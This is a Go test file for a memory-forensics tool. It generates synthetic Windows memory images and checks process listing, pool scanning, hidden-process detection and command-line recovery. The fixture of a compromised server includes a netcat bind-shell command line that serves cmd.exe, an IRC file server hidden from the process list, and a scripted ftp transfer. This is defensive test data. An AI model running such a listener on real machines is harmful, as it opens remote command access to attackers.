package physmem

import (
	"fmt"
	"github.com/remnant-forensics/remnant/pkg/wstr"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/remnant-forensics/remnant/physmem/internal/gen"
	"github.com/remnant-forensics/remnant/pkg/addrspace"
)

var t0 = time.Date(2005, 3, 14, 9, 30, 0, 0, time.UTC)

// cast is the chapter's machine: a compromised Windows web server with a
// netcat listener started from C:\WINNT\system32\os2\dll, an IRC file
// server, and PsExec's service.
func cast(winDir string, systemPID uint32) []gen.Proc {
	sys32 := winDir + `\system32`
	dlls := []string{sys32 + `\ntdll.dll`, sys32 + `\kernel32.dll`}
	env := []string{"ComSpec=" + sys32 + `\cmd.exe`, "SystemRoot=" + winDir, "PROMPT=$P$G"}
	p := func(pid, ppid uint32, name, path, cmd, cwd string, min int) gen.Proc {
		return gen.Proc{PID: pid, PPID: ppid, Name: name, Path: path, CmdLine: cmd, CurDir: cwd, Env: env,
			DLLs: dlls, Create: t0.Add(time.Duration(min) * time.Minute), Threads: 3 + int(pid%7), Handles: 20 + int(pid), Session: 0}
	}
	procs := []gen.Proc{
		{PID: systemPID, Name: "System", NoUserSpace: true, Threads: 52, Handles: 300, Create: t0},
		p(160, systemPID, "smss.exe", sys32+`\smss.exe`, `\SystemRoot\System32\smss.exe`, sys32+`\`, 0),
		p(188, 160, "csrss.exe", sys32+`\csrss.exe`, `C:\WINNT\system32\csrss.exe ObjectDirectory=\Windows`, sys32+`\`, 1),
		p(212, 160, "winlogon.exe", sys32+`\winlogon.exe`, "winlogon.exe", sys32+`\`, 1),
		p(240, 212, "services.exe", sys32+`\services.exe`, sys32+`\services.exe`, sys32+`\`, 1),
		p(252, 212, "lsass.exe", sys32+`\lsass.exe`, sys32+`\lsass.exe`, sys32+`\`, 1),
		p(412, 240, "svchost.exe", sys32+`\svchost.exe`, sys32+`\svchost -k rpcss`, sys32+`\`, 2),
		p(448, 240, "svchost.exe", sys32+`\svchost.exe`, sys32+`\svchost.exe -k netsvcs`, sys32+`\`, 2),
		p(1088, 240, "PSEXESVC.EXE", winDir+`\PSEXESVC.EXE`, winDir+`\PSEXESVC.EXE`, sys32+`\`, 600),
		p(1124, 1088, "cmd.exe", sys32+`\cmd.exe`, `"cmd"`, sys32+`\`, 601),
		p(1424, 1124, "nc.exe", sys32+`\os2\dll\nc.exe`, "nc -d -L -n -p 60906 -e cmd.exe", sys32+`\os2\dll\`, 605),
		p(1460, 1424, "cmd.exe", sys32+`\cmd.exe`, "cmd.exe", sys32+`\os2\dll\`, 640),
		p(1512, 1124, "iroffer.exe", sys32+`\os2\dll\iroffer.exe`, "iroffer myconfig", sys32+`\os2\dll\`, 610),
		p(1600, 1124, "ftp.exe", sys32+`\ftp.exe`, "ftp -s:cmds.txt 10.0.0.5", sys32+`\os2\dll\`, 603),
	}
	procs[7].PEBInTrans = true // svchost -k netsvcs: PEB page in transition
	procs[9].ParamsOut = true  // PsExec's cmd.exe: parameters paged out
	procs[12].Unlinked = true  // iroffer hidden from the list
	procs[13].Exit = t0.Add(604 * time.Minute)
	procs[13].Threads = 0
	return procs
}

type scenario struct {
	name      string
	spec      gen.Spec
	container string // raw, crash, lime
	want      struct {
		paging              Mode
		major, minor, build uint32
		layout              string
		kdbg                bool
		counts              bool // threads, handles, session placed from the source
	}
}

func scenarios(t *testing.T) []scenario {
	guid := func(s string) (g [16]byte) {
		copy(g[:], s)
		return g
	}
	var out []scenario
	add := func(name string, s gen.Spec, container string, paging Mode, layout string, counts bool) {
		sc := scenario{name: name, spec: s, container: container}
		sc.want.paging, sc.want.major, sc.want.minor, sc.want.build = paging, s.Major, s.Minor, s.Build
		sc.want.layout, sc.want.kdbg, sc.want.counts = layout, s.KDBG, counts
		out = append(out, sc)
	}
	base := func(arch gen.Arch, major, minor, build uint32, l gen.Layout, kb uint64, root string, sysPID uint32) gen.Spec {
		return gen.Spec{Arch: arch, Major: major, Minor: minor, Build: build, L: l, MemSize: 512 << 20, KernelBase: kb,
			PDBGUID: guid(fmt.Sprintf("pdb-%d-%d", build, arch)), PDBAge: 2, PDBName: "ntkrnlmp.pdb",
			Time: t0.Add(11 * time.Hour), TimeZoneBias: -time.Hour, SystemRoot: root, Processors: 2,
			Procs: cast(root, sysPID)}
	}
	s := base(gen.X86, 5, 0, 2195, windows2000Layout(t), 0x80400000, `C:\WINNT`, 8)
	s.KDBG = true
	add("win2000sp4-x86-raw", s, "raw", ModeX86, "5.0.2195.7045 x86", false)

	s = base(gen.PAE, 5, 1, 2600, vergiliusLayout(t, "5.1.2600.5512-x86"), 0x804d7000, `C:\WINDOWS`, 4)
	s.KDBG, s.ProtectedPoolTag = true, true
	add("xpsp3-pae-crash", s, "crash", ModePAE, "5.1.2600.5512 x86", false)

	s = base(gen.X64, 6, 1, 7601, isfLayout(t, "339E74133576439CBCDF7E0229DA3773"), 0xfffff80002a00000, `C:\Windows`, 4)
	s.KDBG, s.LowStub = true, true
	s.Procs[12].Wow64 = true
	add("win7sp1-x64-lime", s, "lime", ModeX64, "6.1.7601.24540 x64", true)

	s = base(gen.X64, 10, 0, 19041, isfLayout(t, "FC57F1C841C2C3F793D57AC134DC0EFA"), 0xfffff80034000000, `C:\Windows`, 4)
	s.LowStub = true
	s.Procs[10].Wow64 = true
	add("win10-19041-x64-raw", s, "raw", ModeX64, "10.0.19041.1288 x64", true)

	s = base(gen.X64, 10, 0, 22000, isfLayout(t, "32C1A669D5FFEFD41091F636CFDB6E99"), 0xfffff80061000000, `C:\Windows`, 4)
	add("win11-22000-x64-raw-nostub", s, "raw", ModeX64, "10.0.22000.318 x64", true)

	// Kernel variables at the ISF's RVAs and the ISF's PDB GUID and age:
	// the image Volatility 3 reads with that symbol file
	// (testdata/volatility3-crosscheck.md).
	s = base(gen.X64, 10, 0, 19041, isfLayout(t, "FC57F1C841C2C3F793D57AC134DC0EFA"), 0xfffff80034000000, `C:\Windows`, 4)
	isfSymbols(t, "FC57F1C841C2C3F793D57AC134DC0EFA", &s)
	s.LowStub = true
	s.Procs[10].Wow64 = true
	add("win10-19041-x64-isf-raw", s, "raw", ModeX64, "10.0.19041.1288 x64", true)

	s = base(gen.X64, 10, 0, 22000, isfLayout(t, "32C1A669D5FFEFD41091F636CFDB6E99"), 0xfffff80061000000, `C:\Windows`, 4)
	s.LowStub = true
	add("win11-22000-x64-crash", s, "crash", ModeX64, "10.0.22000.318 x64", true)
	return out
}

func (sc *scenario) open(t *testing.T) (*gen.Image, *Image) {
	t.Helper()
	g, err := gen.Build(sc.spec)
	if err != nil {
		t.Fatal(err)
	}
	var r io.ReaderAt = g.Mem
	size := g.Mem.Size
	switch sc.container {
	case "crash":
		c := g.CrashDump(sc.spec, true)
		r, size = c, c.Size
	case "lime":
		c := g.LiME()
		r, size = c, c.Size
	}
	im, err := Open(r, size)
	if err != nil {
		t.Fatal(err)
	}
	return g, im
}

func TestGeneratedImages(t *testing.T) {
	for _, sc := range scenarios(t) {
		t.Run(sc.name, func(t *testing.T) {
			checkScenario(t, &sc)
		})
	}
}

func checkScenario(t *testing.T, sc *scenario) {
	g, im := sc.open(t)
	for _, w := range im.Warnings() {
		t.Logf("warning: %s", w)
	}
	in := im.Info()
	if Mode(0) != sc.want.paging && in.Paging != sc.want.paging.String() {
		t.Errorf("paging %s, want %s", in.Paging, sc.want.paging)
	}
	if in.DTB&^0xfff != g.DTB&^0xfff {
		t.Errorf("DTB 0x%x, want 0x%x (%s)", in.DTB, g.DTB, in.DTBHow)
	}
	if in.Major != sc.want.major || in.Minor != sc.want.minor {
		t.Errorf("version %d.%d, want %d.%d (%s)", in.Major, in.Minor, sc.want.major, sc.want.minor, in.VersionHow)
	}
	if in.Build != 0 && in.Build != sc.want.build {
		t.Errorf("build %d, want %d", in.Build, sc.want.build)
	}
	if in.Layout != sc.want.layout {
		t.Errorf("layout %q, want %q (%s)", in.Layout, sc.want.layout, in.LayoutHow)
	}
	if in.KernelBase != sc.spec.KernelBase {
		t.Errorf("kernel base 0x%x, want 0x%x (%s)", in.KernelBase, sc.spec.KernelBase, in.KernelHow)
	}
	if in.KernelPDB != sc.spec.PDBName || in.KernelAge != sc.spec.PDBAge || in.KernelGUID == "" {
		t.Errorf("kernel PDB %q %q %d", in.KernelPDB, in.KernelGUID, in.KernelAge)
	}
	if sc.spec.Symbols != nil {
		// The symbol-server key of the ISF file the image was built from.
		want := fmt.Sprintf("%X%X%X%X", sc.spec.PDBGUID[3:4], sc.spec.PDBGUID[2:3], sc.spec.PDBGUID[1:2], sc.spec.PDBGUID[0:1])
		if !strings.HasPrefix(in.KernelGUID, want+"-") {
			t.Errorf("kernel GUID %s, want Data1 %s", in.KernelGUID, want)
		}
	}
	if sc.want.kdbg && in.KDBG != g.KDBG {
		t.Errorf("KDBG 0x%x, want 0x%x", in.KDBG, g.KDBG)
	}
	if in.PsActiveProcessHead != g.PsActiveProcessHead {
		t.Errorf("PsActiveProcessHead 0x%x, want 0x%x (%s)", in.PsActiveProcessHead, g.PsActiveProcessHead, in.ListHow)
	}
	if !in.Time.Equal(sc.spec.Time) {
		t.Errorf("time %v, want %v (%s)", in.Time, sc.spec.Time, in.TimeHow)
	}
	if in.SystemRoot != sc.spec.SystemRoot || in.TimeZoneBias != sc.spec.TimeZoneBias {
		t.Errorf("system root %q, bias %v", in.SystemRoot, in.TimeZoneBias)
	}
	if in.SystemProcess != g.Procs[0].EPROCESS {
		t.Errorf("System EPROCESS 0x%x, want 0x%x (%s)", in.SystemProcess, g.Procs[0].EPROCESS, in.SystemHow)
	}

	ps, warns := im.Processes()
	if len(warns) != 0 {
		t.Errorf("pslist warnings: %v", warns)
	}
	byPID := map[uint64]Process{}
	for _, p := range ps {
		byPID[p.PID] = p
	}
	listed := 0
	for i, want := range sc.spec.Procs {
		got, ok := byPID[uint64(want.PID)]
		hidden := want.Unlinked || !want.Exit.IsZero()
		if hidden {
			if ok {
				t.Errorf("pid %d (%s) is off the list but pslist shows it", want.PID, want.Name)
			}
			continue
		}
		listed++
		if !ok {
			t.Errorf("pid %d (%s) missing from pslist", want.PID, want.Name)
			continue
		}
		checkProc(t, sc, im, got, want, g.Procs[i])
	}
	if len(ps) != listed {
		t.Errorf("pslist has %d processes, want %d", len(ps), listed)
	}

	all, _ := im.ScanProcesses(2)
	scanned := map[uint64]Process{}
	for _, p := range all {
		if !p.Scanned {
			t.Errorf("pid %d (%s) listed but not found by the pool scan", p.PID, p.Name)
		}
		scanned[p.PID] = p
	}
	for i, want := range sc.spec.Procs {
		got, ok := scanned[uint64(want.PID)]
		if !ok {
			t.Errorf("psscan: pid %d (%s) not found", want.PID, want.Name)
			continue
		}
		hidden := want.Unlinked || !want.Exit.IsZero()
		if got.InList == hidden {
			t.Errorf("psscan: pid %d in list %v, want %v", want.PID, got.InList, !hidden)
		}
		if got.PA != g.Procs[i].EPROCESSPA {
			t.Errorf("psscan: pid %d at physical 0x%x, want 0x%x", want.PID, got.PA, g.Procs[i].EPROCESSPA)
		}
		if got.Exited() != !want.Exit.IsZero() || (!want.Exit.IsZero() && !got.ExitTime.Equal(want.Exit)) {
			t.Errorf("psscan: pid %d exit %v, want %v", want.PID, got.ExitTime, want.Exit)
		}
		if got.Name != want.Name || got.PPID != uint64(want.PPID) {
			t.Errorf("psscan: pid %d is %q ppid %d", want.PID, got.Name, got.PPID)
		}
	}
	if len(all) != len(sc.spec.Procs) {
		t.Errorf("psscan found %d processes, want %d", len(all), len(sc.spec.Procs))
	}
}

func checkProc(t *testing.T, sc *scenario, im *Image, got Process, want gen.Proc, out gen.ProcOut) {
	t.Helper()
	if got.Name != want.Name || got.PPID != uint64(want.PPID) || !got.CreateTime.Equal(want.Create) || got.Exited() {
		t.Errorf("pid %d: %q ppid %d created %v exited %v; want %q %d %v", want.PID, got.Name, got.PPID, got.CreateTime, got.Exited(), want.Name, want.PPID, want.Create)
	}
	if got.VA != out.EPROCESS || got.PA != out.EPROCESSPA || got.DTB != out.DTB || got.Peb != out.PEB {
		t.Errorf("pid %d: va 0x%x pa 0x%x dtb 0x%x peb 0x%x; want 0x%x 0x%x 0x%x 0x%x", want.PID, got.VA, got.PA, got.DTB, got.Peb, out.EPROCESS, out.EPROCESSPA, out.DTB, out.PEB)
	}
	if sc.want.counts || sc.spec.Major == 5 && sc.spec.Minor == 0 {
		if got.Threads != want.Threads {
			t.Errorf("pid %d: %d threads, want %d", want.PID, got.Threads, want.Threads)
		}
	}
	if sc.want.counts {
		if hc := sc.spec.L.HandleCount; hc >= 0 && got.Handles != want.Handles {
			t.Errorf("pid %d: %d handles, want %d", want.PID, got.Handles, want.Handles)
		}
		if want.PID > 4 && got.Session != want.Session {
			t.Errorf("pid %d: session %d, want %d", want.PID, got.Session, want.Session)
		}
		if got.Wow64 != want.Wow64 {
			t.Errorf("pid %d: wow64 %v", want.PID, got.Wow64)
		}
	}
	if want.NoUserSpace {
		return
	}
	// The process's own page tables reach its PEB and parameters; read the
	// command line with the published offsets.
	sp, err := im.ProcessSpace(got)
	if err != nil {
		t.Fatalf("pid %d: %v", want.PID, err)
	}
	l := sc.spec.L
	pp, err := addrspace.Ptr(sp, got.Peb+uint64(l.PEB["ProcessParameters"]))
	if err != nil {
		t.Errorf("pid %d: PEB unreadable: %v", want.PID, err)
		return
	}
	cmd, err := readUnicodeString(sp, pp+uint64(l.Params["CommandLine"]))
	switch {
	case want.ParamsOut:
		if !addrspace.IsUnmapped(err) {
			t.Errorf("pid %d: parameters are paged out but read %q, %v", want.PID, cmd, err)
		}
	case err != nil || cmd != want.CmdLine:
		t.Errorf("pid %d: command line %q %v, want %q", want.PID, cmd, err, want.CmdLine)
	}
	// pkg/win's walker through the same space.
	wp, wwarns, err := im.Walk(got)
	if err != nil || wp == nil {
		t.Errorf("pid %d: walk: %v %v", want.PID, err, wwarns)
		return
	}
	if wp.PEB != got.Peb || len(wp.InLoadOrder) != 1+len(want.DLLs) || wp.InLoadOrder[0].FullDllName != want.Path {
		t.Errorf("pid %d: walk PEB 0x%x, %d modules %v", want.PID, wp.PEB, len(wp.InLoadOrder), wp.InLoadOrder)
	}
	switch {
	case want.ParamsOut:
		if wp.Params != nil && wp.Params.CommandLine.Complete {
			t.Errorf("pid %d: walk read paged-out parameters", want.PID)
		}
	case wp.Params == nil:
		t.Errorf("pid %d: walk found no parameters: %v", want.PID, wwarns)
	default:
		pr := wp.Params
		if pr.CommandLine.Text != want.CmdLine || pr.ImagePathName.Text != want.Path || pr.CurrentDirectory.Text != want.CurDir {
			t.Errorf("pid %d: walk params %q %q %q", want.PID, pr.CommandLine.Text, pr.ImagePathName.Text, pr.CurrentDirectory.Text)
		}
		if len(pr.Env) != len(want.Env) || pr.Env[0].String() != want.Env[0] {
			t.Errorf("pid %d: walk env %v, want %v", want.PID, pr.Env, want.Env)
		}
	}
	inRanges := false
	for _, r := range sp.Ranges() {
		if r.Contains(got.Peb) {
			inRanges = true
		}
		if r.Start+r.Size > sp.Mode().userEnd() {
			t.Errorf("pid %d: user range %x reaches the kernel", want.PID, r)
		}
	}
	if !inRanges {
		t.Errorf("pid %d: PEB 0x%x not in the mapped ranges", want.PID, got.Peb)
	}
}

func readUnicodeString(as addrspace.AddressSpace, va uint64) (string, error) {
	n, err := addrspace.U16(as, va)
	if err != nil {
		return "", err
	}
	buf, err := addrspace.Ptr(as, va+uint64(as.PointerSize()))
	if err != nil {
		return "", err
	}
	b := make([]byte, n)
	if err := addrspace.ReadFull(as, b, buf); err != nil {
		return "", err
	}
	return wstr.DecodeZ(append(b, 0, 0)), nil
}

// TestWriteGeneratedImages writes the generated images to the directory
// named by REMNANT_GEN_DIR (for the CLI and for other tools); skipped
// otherwise.
func TestWriteGeneratedImages(t *testing.T) {
	dir := os.Getenv("REMNANT_GEN_DIR")
	if dir == "" {
		t.Skip("REMNANT_GEN_DIR not set")
	}
	for _, sc := range scenarios(t) {
		g, err := gen.Build(sc.spec)
		if err != nil {
			t.Fatal(err)
		}
		var r io.ReaderAt = g.Mem
		size, ext := g.Mem.Size, ".raw"
		switch sc.container {
		case "crash":
			c := g.CrashDump(sc.spec, true)
			r, size, ext = c, c.Size, ".dmp"
		case "lime":
			c := g.LiME()
			r, size, ext = c, c.Size, ".lime"
		}
		if err := gen.WriteFile(filepath.Join(dir, sc.name+ext), r, size); err != nil {
			t.Fatal(err)
		}
	}
}
